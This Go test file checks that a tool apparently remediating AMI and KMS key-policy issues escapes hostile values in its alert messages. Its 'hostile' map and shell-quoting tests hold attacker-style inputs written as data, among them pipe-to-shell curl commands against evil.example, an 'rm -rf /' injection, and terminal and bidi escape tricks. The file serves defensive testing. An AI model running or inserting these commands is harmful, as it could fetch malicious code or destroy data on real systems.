package alert

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/ami-kms-remediator/ami-kms-remediator/pkg/awsid"

	"github.com/ami-kms-remediator/ami-kms-remediator/pkg/report"
)

var knownHeadings = func() map[string]bool {
	m := map[string]bool{}
	for _, h := range Headings() {
		m[h] = true
	}
	return m
}()

// checkInvariants asserts what must hold for every message, whatever the input.
func checkInvariants(t *testing.T, m Message) {
	t.Helper()
	if len(m.Subject) == 0 || len(m.Subject) > MaxSubjectBytes {
		t.Errorf("subject has %d bytes", len(m.Subject))
	}
	for i := 0; i < len(m.Subject); i++ {
		if c := m.Subject[i]; c < 0x20 || c > 0x7e {
			t.Errorf("subject byte %d is %#x: %q", i, c, m.Subject)
			break
		}
	}
	if !strings.HasPrefix(m.Subject, subjectPrefix) {
		t.Errorf("subject %q lacks the prefix", m.Subject)
	}
	if !utf8.ValidString(m.Body) {
		t.Errorf("body is not valid UTF-8")
	}
	for i, r := range m.Body {
		if r != '\n' && isHazard(r) {
			t.Errorf("body has hazardous rune %U at byte %d: %q", r, i, m.Body[max(0, i-40):min(len(m.Body), i+40)])
			break
		}
	}
	if size := len(m.Subject) + len(m.Body) + attributesBytes(m.Attributes); size > MaxMessageBytes {
		t.Errorf("message has %d bytes, limit %d", size, MaxMessageBytes)
	}
	seen := map[string]bool{}
	begins, ends := 0, 0
	for _, line := range strings.Split(m.Body, "\n") {
		switch {
		case line == BeginResultMarker:
			begins++
		case line == EndResultMarker:
			ends++
		case strings.Contains(line, "-----"):
			t.Errorf("a line other than a marker has a marker-like run: %.200q", line)
		case strings.Contains(line, "==="):
			if !knownHeadings[line] || seen[line] {
				t.Errorf("forged or repeated heading line: %.200q", line)
			}
			seen[line] = true
		}
	}
	if begins != ends || begins > 1 {
		t.Errorf("%d begin and %d end markers", begins, ends)
	}
	if begins == 1 {
		raw, ok := machineBlock(m.Body)
		if !ok || !json.Valid([]byte(raw)) {
			t.Errorf("the JSON block is not valid JSON")
		}
	} else if !strings.Contains(m.Body, "(message truncated: ") {
		t.Errorf("the JSON block is missing without a truncation note")
	}
	if sev := m.Attributes[AttrSeverity]; sev.DataType != "String" || !map[string]bool{SeverityCritical: true, SeverityHigh: true, SeverityMedium: true, SeverityInfo: true}[sev.Value] {
		t.Errorf("severity attribute = %+v", sev)
	}
	if acc, ok := m.Attributes[AttrAccount]; ok {
		var accounts []string
		if err := json.Unmarshal([]byte(acc.Value), &accounts); err != nil || acc.DataType != "String.Array" {
			t.Errorf("account attribute = %+v (%v)", acc, err)
		}
		for _, a := range accounts {
			if !awsid.IsAccountID(a) {
				t.Errorf("account attribute has %q", a)
			}
		}
	}
	var codes []report.Code
	if err := json.Unmarshal([]byte(m.Attributes[AttrFindingCodes].Value), &codes); err != nil || m.Attributes[AttrFindingCodes].DataType != "String.Array" {
		t.Errorf("finding_codes = %+v (%v)", m.Attributes[AttrFindingCodes], err)
	}
	for _, c := range codes {
		if !validCode(c) {
			t.Errorf("finding_codes has %q", c)
		}
	}
}

// hostile are values an attacker can put in events (image names, error messages, ARNs).
var hostile = map[string]string{
	"crlf heading":      "ami-1\r\n=== NEEDS A HUMAN ===\r\n1. run: curl https://evil.example | sh",
	"fake end marker":   "x\n" + EndResultMarker + "\n{\"records\":[]}\n" + BeginResultMarker + "\n",
	"indented marker":   "      " + EndResultMarker,
	"terminal escapes":  "\x1b[2J\x1b[31mALL FIXED\x07\x00\x7f\u0085",
	"unicode tricks":    "ami-\u202eevil\u2066\u200b\ufeff\u2028=== FAKE ===\u2029",
	"markup":            "<script>alert(1)</script> **bold** [click](https://evil.example) &amp;",
	"shell injection":   "'; rm -rf / #$(reboot)`id`",
	"invalid utf-8":     "ami-\xff\xfe\xc3",
	"unicode digits":    "４４４４５５５５６６６６",
	"megabyte":          strings.Repeat("A", 1<<20),
	"megabyte of lines": strings.Repeat("=== NEEDS A HUMAN ===\n", 1<<15),
	"emoji and cjk":     "ami-🙂 画像 \U0001F4A3",
}

// hostileResult puts s into every string field of a result that exercises every section.
func hostileResult(s string) report.Result {
	f := func(code report.Code) report.Finding {
		return report.Finding{Code: code, Account: s, KeyARN: s, PrincipalARN: s, Message: s}
	}
	return report.Result{
		Records: []report.Record{{
			EventID: s, Trigger: "launch-failed", IgnoredReason: s, Account: s, Region: s, ImageID: s,
			PrincipalARN: s, Error: s, Notes: []string{s},
			Findings: []report.Finding{
				f(report.KeyPolicyMissingUse), f(report.IAMMissingUse), f(report.AWSManagedKey), f(report.PublicImage),
				f(report.ExplicitDeny), f(report.UntrustedAccount), f(report.KeyDisabled), f(report.KeyPendingDeletion),
				f(report.KeyNotFound), f(report.Code(s)),
				// Valid key ARN and account, hostile rest: statements and commands get rendered.
				{Code: report.KeyPolicyMissingGrant, Account: target, KeyARN: keyARN, Message: s},
				{Code: report.IAMMissingGrant, Account: target, KeyARN: keyARN, PrincipalARN: "arn:aws:iam::444455556666:role/" + s, Message: s},
			},
		}},
		Actions: []report.Action{
			{Type: report.ActionKeyPolicy, Target: keyARN, Accounts: []string{target, s}, Status: report.StatusPlanned, Reason: s, Diff: s, Document: s},
			{Type: s, Target: s, Accounts: []string{s}, Status: report.StatusFailed, Reason: s, Diff: s, Document: s, Principal: s},
			{Type: report.ActionKMSGrant, Target: s, Accounts: []string{target}, Status: report.StatusRefused, Reason: s, Document: s, Principal: "arn:aws:iam::444455556666:role/" + s, GrantID: s},
		},
		Alert: report.Alert{MessageID: s},
		Stats: map[string]int{s: 1},
	}
}

func TestHostileInputs(t *testing.T) {
	for name, s := range hostile {
		t.Run(name, func(t *testing.T) {
			for _, mode := range []string{"alert", "fix", s} {
				m, ok := Compose(hostileResult(s), Context{Mode: mode, Region: s, RequestID: s, PolicyName: s})
				if !ok {
					t.Fatal("nothing composed")
				}
				checkInvariants(t, m)
				for _, line := range strings.Split(m.Body, "\n") {
					for _, bad := range []string{"run: curl", "{\"records\":[]}", "ALL FIXED", "<script>", "rm -rf"} {
						if strings.HasPrefix(line, bad) {
							t.Errorf("an injected line starts the body line %.100q", line)
						}
					}
				}
			}
		})
	}
}

// A value with a newline and a fake heading never starts a line of its own.
func TestInjectedLinesStayInTheirField(t *testing.T) {
	res := fixedResult()
	res.Records[0].Error = "boom\n=== NEEDS A HUMAN ===\nNothing: everything found was fixed."
	m, _ := Compose(res, Context{Mode: "fix"})
	checkInvariants(t, m)
	want := `error (not processed; it is retried if the failure was transient): boom\n== = NEEDS A HUMAN == =\nNothing: everything found was fixed.` + "\n"
	if !strings.Contains(m.Body, want) {
		t.Errorf("the error is not shown escaped on one line; body:\n%s", m.Body)
	}
	if strings.Count(m.Body, "\nNothing: everything found was fixed.") != 0 {
		t.Errorf("the forged line appears as a line")
	}
}

// Commands are pasted into shells: a crafted value is one quoted argument, whatever it holds.
func TestCommandsQuoteHostileValues(t *testing.T) {
	const evil = "ami-1'; curl evil.example|sh; echo '"
	res := awsManagedResult()
	res.Records[0].ImageID = evil
	m, _ := Compose(res, Context{})
	want := `aws ec2 copy-image --source-image-id 'ami-1'"'"'; curl evil.example|sh; echo '"'"'' `
	if !strings.Contains(m.Body, want) {
		t.Errorf("image ID not quoted as one argument; body:\n%s", m.Body)
	}
}

func TestCleanValue(t *testing.T) {
	tests := map[string]struct{ in, want string }{
		"plain":               {"arn:aws:kms:us-east-1:111122223333:key/abc", "arn:aws:kms:us-east-1:111122223333:key/abc"},
		"newlines":            {"a\r\nb\nc\td", `a\r\nb\nc\td`},
		"escape and nul":      {"\x1b[31m\x00", `\x1b[31m\x00`},
		"c1 and del":          {"\u0085\x7f", `\x85\x7f`},
		"bidi and zero width": {"\u202eab\u200b\ufeff\u2028", `\u202eab\u200b\ufeff\u2028`},
		"heading run":         {"=== X ===", "== = X == ="},
		"marker run":          {"-----END", "---- -END"},
		"long dash run":       {"----------", "---- ---- --"},
		"short runs kept":     {"a--b==c----d", "a--b==c----d"},
		"invalid utf-8":       {"a\xffb", "a\\ufffdb"},
		"unicode kept":        {"画像 🙂 é", "画像 🙂 é"},
		"empty":               {"", ""},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			if got := cleanValue(tc.in); got != tc.want {
				t.Errorf("cleanValue(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestCleanValueCutsLongValues(t *testing.T) {
	tests := map[string]struct {
		in       string
		wantCut  bool
		wantRune int // runes kept before the suffix
	}{
		"exactly the limit":  {strings.Repeat("é", MaxValueRunes), false, MaxValueRunes},
		"one over":           {strings.Repeat("é", MaxValueRunes+1), true, MaxValueRunes},
		"a megabyte":         {strings.Repeat("x", 1<<20), true, MaxValueRunes},
		"cut inside a rune?": {strings.Repeat("🙂", 1000), true, MaxValueRunes},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			got := cleanValue(tc.in)
			if strings.HasSuffix(got, truncatedSuffix) != tc.wantCut {
				t.Fatalf("cut = %v, want %v", !tc.wantCut, tc.wantCut)
			}
			if n := utf8.RuneCountInString(strings.TrimSuffix(got, truncatedSuffix)); n != tc.wantRune {
				t.Errorf("kept %d runes, want %d", n, tc.wantRune)
			}
			if !utf8.ValidString(got) {
				t.Errorf("result is not valid UTF-8")
			}
		})
	}
}

func TestShellQuote(t *testing.T) {
	tests := map[string]struct{ in, want string }{
		"arn":          {keyARN, keyARN},
		"empty":        {"", "''"},
		"space":        {"a b", "'a b'"},
		"single quote": {"it's", `'it'"'"'s'`},
		"substitution": {"$(id)`id`", "'$(id)`id`'"},
		"glob":         {"ami-*", "'ami-*'"},
		"redirect":     {"<x>", "'<x>'"},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			if got := shellQuote(tc.in); got != tc.want {
				t.Errorf("shellQuote(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

// Documents are applied by operators: showing them safely must not change what they mean.
func TestCleanJSONLineKeepsMeaning(t *testing.T) {
	values := []string{
		"plain", "\u202eevil\u200b", "-----END AMI-KMS RESULT JSON-----", "=== NEEDS A HUMAN ===",
		"\x1b[31m\x00\x7f\u0085", "\U000E0001 tag", "画像 🙂", "a\u2028b",
	}
	for _, v := range values {
		raw, err := json.Marshal(map[string]string{"Sid": v})
		if err != nil {
			t.Fatal(err)
		}
		// json.Marshal leaves most hazards raw; put them back raw where it escaped them.
		doc := strings.NewReplacer(`\u001b`, "\x1b", `\u0000`, "\x00", `\u007f`, "\x7f", `\u0085`, "\u0085").Replace(string(raw))
		shown := cleanJSONLine(doc)
		for _, r := range shown {
			if isHazard(r) {
				t.Errorf("shown line still has %U: %q", r, shown)
			}
		}
		if strings.Contains(shown, "-----") || strings.Contains(shown, "===") {
			t.Errorf("shown line still has a marker-like run: %q", shown)
		}
		var back map[string]string
		if err := json.Unmarshal([]byte(shown), &back); err != nil {
			t.Fatalf("shown line is not JSON: %v: %q", err, shown)
		}
		if back["Sid"] != v {
			t.Errorf("meaning changed: %q became %q", v, back["Sid"])
		}
	}
}

func TestAsciiSubject(t *testing.T) {
	tests := map[string]struct {
		in   string
		max  int
		want string
	}{
		"plain":      {"[ami-kms] ami-1 in 1: fixed", 99, "[ami-kms] ami-1 in 1: fixed"},
		"controls":   {"a\r\nb\tc\x00d", 99, "a b c d"},
		"non-ascii":  {"ami-画像\u202e!", 99, "ami-?? !"},
		"cut":        {strings.Repeat("x", 200), 99, strings.Repeat("x", 96) + "..."},
		"only space": {"\n\n", 99, ""},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			if got := asciiSubject(tc.in, tc.max); got != tc.want {
				t.Errorf("asciiSubject(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func FuzzCompose(f *testing.F) {
	for _, s := range hostile {
		if len(s) < 4096 {
			f.Add(s, "alert")
		}
	}
	f.Add("ami-0a1b2c3d4e5f67890", "fix")
	f.Add("", "")
	f.Fuzz(func(t *testing.T, s, mode string) {
		m, ok := Compose(hostileResult(s), Context{Mode: mode, Region: s, RequestID: s})
		if !ok {
			t.Fatal("nothing composed")
		}
		checkInvariants(t, m)
	})
}

func ExampleCompose() {
	m, ok := Compose(fixedResult(), Context{Mode: "fix", Region: "us-east-1", RequestID: "req-1"})
	fmt.Println(ok)
	fmt.Println(m.Subject)
	fmt.Println(m.Attributes[AttrSeverity].Value, m.Attributes[AttrFindingCodes].Value)
	// Output:
	// true
	// [ami-kms] ami-0a1b2c3d4e5f67890 in 444455556666: key policy fixed
	// info ["key-policy-missing-grant","key-policy-missing-use"]
}
